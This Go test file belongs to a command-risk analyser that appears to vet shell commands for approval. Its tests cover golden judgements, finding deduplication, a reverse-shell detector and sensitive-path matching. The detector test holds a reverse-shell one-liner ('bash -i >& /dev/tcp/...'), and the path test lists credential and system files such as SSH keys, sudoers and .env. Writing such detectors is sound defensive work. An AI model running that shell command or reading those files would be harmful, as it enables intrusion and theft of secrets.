package risk

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/approve-tui/approve-tui/model"
)

// The golden judgements (testdata/judge-golden.jsonl.gz) pin the whole
// Judgement — level, hardline, read-only, effects, findings in order, the
// table's verdict — of every corpus command, every attack case, every
// string literal of the risk/ and shell/ tests, and 64 KB texts built from
// the corpora, in four contexts. The analysis is rewritten for speed from
// time to time; this test says it still judges byte for byte the same.
// A change meant to alter judgements regenerates the file with
//
//	APPROVE_TUI_JUDGE_GOLDEN=write go test -run '^TestJudgeGolden$' ./risk/
//
// and the diff of its decompressed lines is reviewed like code.
const judgeGoldenEnv = "APPROVE_TUI_JUDGE_GOLDEN"

const judgeGoldenFile = "testdata/judge-golden.jsonl.gz"

// goldenContexts are the contexts every golden command is judged in.
var goldenContexts = []Context{
	corpusContext,
	{},
	{Cwd: "/", Home: "/root"},
	{
		Cwd:      "/home/dev/project",
		Home:     "/home/dev",
		Paths:    []string{"/srv/secrets/", "~/vault.txt", "/etc/approve-tui/", "~/.config/approve-tui/config.toml"},
		Programs: map[string]model.RiskLevel{"deploy-prod": model.RiskHigh, "git": model.RiskMedium},
	},
}

// goldenEntry is one line of the golden file. A command that is not valid
// UTF-8 is kept as bytes (base64) instead.
type goldenEntry struct {
	Context      int             `json:"context"`
	Command      string          `json:"command,omitempty"`
	CommandBytes []byte          `json:"command_bytes,omitempty"`
	Judgment     json.RawMessage `json:"judgement"`
}

func (e goldenEntry) command() string {
	if e.CommandBytes != nil {
		return string(e.CommandBytes)
	}
	return e.Command
}

// goldenCommands are the commands the golden file is generated from.
func goldenCommands(t *testing.T) []string {
	var cmds []string
	seen := map[string]bool{}
	add := func(c string) {
		if !seen[c] {
			seen[c] = true
			cmds = append(cmds, c)
		}
	}
	var corpus []string
	corpora := loadCorpora(t)
	for _, f := range corpusFiles {
		for _, c := range corpora[f.name] {
			corpus = append(corpus, c.command)
			add(c.command)
		}
	}
	for _, c := range attackTable {
		add(c.cmd)
	}
	for _, c := range readOnlyControls {
		add(c)
	}
	for _, dir := range []string{".", "../shell", "../impact"} {
		files, err := filepath.Glob(filepath.Join(dir, "*_test.go"))
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range files {
			f, err := parser.ParseFile(token.NewFileSet(), name, nil, 0)
			if err != nil {
				t.Fatal(err)
			}
			ast.Inspect(f, func(n ast.Node) bool {
				if lit, ok := n.(*ast.BasicLit); ok && lit.Kind == token.STRING {
					if s, err := strconv.Unquote(lit.Value); err == nil && s != "" && len(s) < 4096 {
						add(s)
					}
				}
				return true
			})
		}
	}
	for _, sep := range []string{"\n", " ; ", " && ", " | "} {
		add(joinUpTo(corpus, sep, 64*1024))
	}
	add(("rm -f" + strings.Repeat(" build/x.o", 64*1024/10+1))[:64*1024])
	add("cd /tmp && " + joinUpTo(corpus[len(corpus)/2:], "\n", 64*1024))
	return cmds
}

func TestJudgeGolden(t *testing.T) {
	if os.Getenv(judgeGoldenEnv) == "write" {
		writeJudgeGolden(t)
		return
	}
	f, err := os.Open(judgeGoldenFile)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(zr)
	sc.Buffer(nil, 64<<20)
	n, bad := 0, 0
	for sc.Scan() {
		var e goldenEntry
		if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
			t.Fatalf("line %d: %v", n+1, err)
		}
		n++
		got, err := goldenJSON(Judge(e.command(), goldenContexts[e.Context]))
		if err != nil {
			t.Fatal(err)
		}
		if want := e.Judgment; !bytes.Equal(got, want) {
			bad++
			if bad <= 5 {
				t.Errorf("context %d, %.200q:\n got %.2000s\nwant %.2000s", e.Context, e.Command, got, want)
			}
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if n < 1000 {
		t.Fatalf("only %d golden judgements", n)
	}
	if bad > 0 {
		t.Errorf("%d of %d judgements differ from the golden file", bad, n)
	}
}

// goldenJSON is j as the golden file holds it: JSON, with every string
// that is not valid UTF-8 quoted by Go first, so that no byte is lost.
func goldenJSON(j Judgement) (json.RawMessage, error) {
	q := func(s string) string {
		if utf8.ValidString(s) {
			return s
		}
		return "invalid UTF-8: " + strconv.Quote(s)
	}
	j.Findings = slices.Clone(j.Findings)
	for i, f := range j.Findings {
		f.Why = q(f.Why)
		f.Words = slices.Clone(f.Words)
		for k, w := range f.Words {
			f.Words[k] = q(w)
		}
		j.Findings[i] = f
	}
	j.Effects = slices.Clone(j.Effects)
	for i, e := range j.Effects {
		j.Effects[i] = q(e)
	}
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(j); err != nil {
		return nil, err
	}
	return bytes.TrimSuffix(buf.Bytes(), []byte("\n")), nil
}

func writeJudgeGolden(t *testing.T) {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	enc := json.NewEncoder(zw)
	enc.SetEscapeHTML(false)
	for _, cmd := range goldenCommands(t) {
		for i, c := range goldenContexts {
			j, err := goldenJSON(Judge(cmd, c))
			if err != nil {
				t.Fatal(err)
			}
			e := goldenEntry{Context: i, Command: cmd, Judgment: j}
			if !utf8.ValidString(cmd) {
				e.Command, e.CommandBytes = "", []byte(cmd)
			}
			if err := enc.Encode(e); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(judgeGoldenFile, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestDistinctFindings: equal findings are kept once, the first, and
// different findings whose hashes meet are all kept.
func TestDistinctFindings(t *testing.T) {
	fs := []Finding{
		{Rule: "effect", Level: low, Words: []string{"a"}, Why: "x"},
		{Rule: "effect", Level: low, Words: []string{"b"}, Why: "x"},
		{Rule: "effect", Level: low, Effect: "read", Words: []string{"a"}, Why: "x"},
		{Rule: "effect", Level: medium, Words: []string{"a"}, Why: "x"},
		{Rule: "effect", Level: low, Words: []string{"b"}, Why: "x"},
		{Rule: "target", Level: low, Words: []string{"c"}, Why: "y"},
	}
	want := []int{0, 1, 3, 5}
	for name, hash := range map[string]func([]byte) uint64{
		"hash":      findingHash,
		"collision": func([]byte) uint64 { return 7 },
	} {
		var got []Finding
		keep := distinct(fs, hash, func(f Finding) { got = append(got, f) })
		for i := range fs {
			keep(i)
		}
		if len(got) != len(want) {
			t.Fatalf("%s: kept %d findings, want %d: %+v", name, len(got), len(want), got)
		}
		for k, i := range want {
			if !slices.Equal(got[k].Words, fs[i].Words) || got[k].Level != fs[i].Level || got[k].Effect != fs[i].Effect {
				t.Errorf("%s: finding %d is %+v, want %+v", name, k, got[k], fs[i])
			}
		}
	}
}

// TestOpensSocket: the search for reverseShellRe's words answers as the
// expression does.
func TestOpensSocket(t *testing.T) {
	cases := []string{"", "x", "import socket", "IMPORT SOCKET", "TCPSocket.new", "fsockopen(", "FSockOpen",
		"require('net').connect", "net.Connect", "netXconnect", "bash -i >& /dev/tcp/1.2.3.4/80", "/DEV/TCP", "io.popen",
		"IO.POPEN", "createConnection", "sock", "s0cket", "ſocket", "\u212aelvin socket", "ŝocket", "é socket", "create connection"}
	for _, c := range loadCorporaCommands(t) {
		cases = append(cases, c)
	}
	for _, c := range cases {
		if got, want := opensSocket(c), reverseShellRe().MatchString(c); got != want {
			t.Errorf("opensSocket(%q) = %v, the expression says %v", c, got, want)
		}
	}
}

func loadCorporaCommands(t *testing.T) []string {
	var out []string
	for _, cs := range loadCorpora(t) {
		for _, c := range cs {
			out = append(out, c.command)
		}
	}
	return out
}

// matchInByText is matchIn as it read each target's match text for every
// path, before the matches were read once (matchers): the reference
// TestMatchersAsText compares them with.
func matchInByText(targets []sensitive, p string) *sensitive {
	if p == "" {
		return nil
	}
	base := path.Base(p)
	for i := range targets {
		s := &targets[i]
		m := s.match
		switch {
		case strings.HasPrefix(m, "*/"):
			name := m[2:]
			if strings.HasSuffix(name, "/") {
				dir := strings.TrimSuffix(name, "/")
				if base == dir || hasComponent(p, dir) {
					return s
				}
			} else if base == name || strings.HasSuffix(p, name) && (len(p) == len(name) || p[len(p)-len(name)-1] == '/') {
				return s
			}
		case strings.HasPrefix(m, "*."):
			if strings.HasSuffix(base, m[1:]) {
				return s
			}
		case strings.HasSuffix(m, "*"):
			if strings.HasPrefix(base, strings.TrimSuffix(m, "*")) && !exampleFile(base) {
				return s
			}
		case m == "/":
			if p == "/" {
				return s
			}
		case strings.HasSuffix(m, "/"):
			dir := strings.TrimSuffix(m, "/")
			if p == dir || strings.HasPrefix(p, m) {
				return s
			}
		default:
			if p == m {
				return s
			}
		}
	}
	return nil
}

// TestMatchersAsText: the sensitive targets match the same paths as when
// their text was read for every path.
func TestMatchersAsText(t *testing.T) {
	paths := []string{"/", "/etc", "/etc/", "/etc/sudoers", "/etc/sudoers.d", "/etc/sudoers.d/x", "/etc/sudoersX",
		"~/.ssh", "~/.ssh/id_rsa", "~/.ssh/id_rsa.pub", ".git/hooks/pre-commit", "a/.git/config", ".env", ".env.example",
		"x.pem", "X.PEM", "~/.bashrc", "~/.claude/settings.json", ".claude/settings.json", "/dev/sda", "?/x"}
	for _, target := range sensitiveTargets {
		m := strings.Trim(target.match, "*")
		paths = append(paths, m, "/x"+m, m+"x", m+"/y", "a/"+m, strings.TrimSuffix(m, "/"), strings.ToUpper(m))
	}
	for _, c := range loadCorporaCommands(t) {
		for _, w := range strings.Fields(c) {
			paths = append(paths, w, path.Clean(w), "~/"+w, "/home/dev/project/"+w)
		}
	}
	for _, p := range paths {
		for _, targets := range [][]sensitive{sensitiveTargets, foldedTargets, sensitiveTargets[3:9]} {
			if got, want := matchIn(targets, p), matchInByText(targets, p); got != want {
				t.Errorf("matchIn(%q) = %+v, by the text %+v", p, got, want)
			}
		}
	}
}
